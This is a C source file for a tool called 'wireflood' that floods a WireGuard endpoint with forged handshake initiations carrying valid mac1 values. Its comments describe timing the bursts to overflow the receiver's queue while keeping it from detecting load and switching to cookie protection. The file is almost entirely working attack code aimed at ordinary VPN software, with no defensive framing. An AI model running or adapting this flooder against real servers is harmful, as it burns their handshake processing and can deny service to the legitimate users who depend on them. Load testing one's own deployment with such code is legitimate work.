// SPDX-License-Identifier: GPL-2.0
/*
 * wireflood ADDRESS PORT PUBLIC-KEY SECONDS: handshake initiations with a valid
 * mac1 (PUBLIC-KEY, base64, is the receiver's) and nothing else right. BURST at
 * once, which no WireGuard's queue takes for normal, again before it is believed
 * to be over, and one after the other in between, for those that count what
 * handshakes cost. After each burst it prints how many cookie replies it has got
 * so far. To be run as root: it takes the processor for the length of a burst, so
 * that little of it is looked at before all has arrived.
 */
#include <netdb.h>
#include <sched.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>

#include "blake2s.h"

enum {
	INITIATION_LEN = 148,
	COOKIE_REPLY_LEN = 64,
	MAC1_AT = 116,
	/* Twice what is load to the kernel's: some are looked at meanwhile. */
	BURST = 1024,
	/* Milliseconds. Load is over after 1000 without a burst. */
	PERIOD = 500,
	PAUSE = 1,
};

static uint8_t messages[BURST][INITIATION_LEN];

static int connect_to(const char *host, const char *port)
{
	struct addrinfo hints = { .ai_socktype = SOCK_DGRAM, .ai_flags = AI_NUMERICHOST }, *at;
	int fd;

	if (getaddrinfo(host, port, &hints, &at))
		return -1;
	fd = socket(at->ai_family, SOCK_DGRAM, 0);
	if (fd >= 0 && connect(fd, at->ai_addr, at->ai_addrlen))
		fd = -1;
	freeaddrinfo(at);
	return fd;
}

static void make(const uint8_t *public_key)
{
	uint8_t key[32];
	int i;

	mac1_key_of(key, public_key);
	for (i = 0; i < BURST; i++) {
		uint8_t *m = messages[i];

		randombytes_buf(m + 4, MAC1_AT - 4);
		m[0] = 1;
		hash_of(m + MAC1_AT, 16, key, sizeof(key), m, MAC1_AT);
	}
}

static long cookies(int fd)
{
	uint8_t m[2048];
	ssize_t n;
	long got = 0;

	while ((n = recv(fd, m, sizeof(m), MSG_DONTWAIT)) >= 0)
		if (n == COOKIE_REPLY_LEN && m[0] == 3)
			got++;
	return got;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	const struct timespec pause = { 0, PAUSE * 1000000L };
	struct sched_param first = { .sched_priority = 1 };
	uint8_t key[32];
	double end, next;
	long got = 0;
	int fd, i;

	if (argc != 5 || sodium_init() < 0 ||
	    sodium_base642bin(key, sizeof(key), argv[3], strlen(argv[3]), NULL, NULL, NULL,
			      sodium_base64_VARIANT_ORIGINAL)) {
		fprintf(stderr, "wireflood ADDRESS PORT PUBLIC-KEY SECONDS\n");
		return 1;
	}
	fd = connect_to(argv[1], argv[2]);
	if (fd < 0 || sched_setscheduler(0, SCHED_FIFO, &first)) {
		perror(argv[1]);
		return 1;
	}
	make(key);
	next = now();
	for (end = next + atof(argv[4]); next < end;) {
		for (i = 0; i < BURST; i++)
			send(fd, messages[i], INITIATION_LEN, 0);
		next += PERIOD / 1000.0;
		for (i = 0; now() < next; i = (i + 1) % BURST) {
			nanosleep(&pause, NULL);
			send(fd, messages[i], INITIATION_LEN, 0);
			got += cookies(fd);
		}
		printf("%ld\n", got);
		fflush(stdout);
	}
	return 0;
}
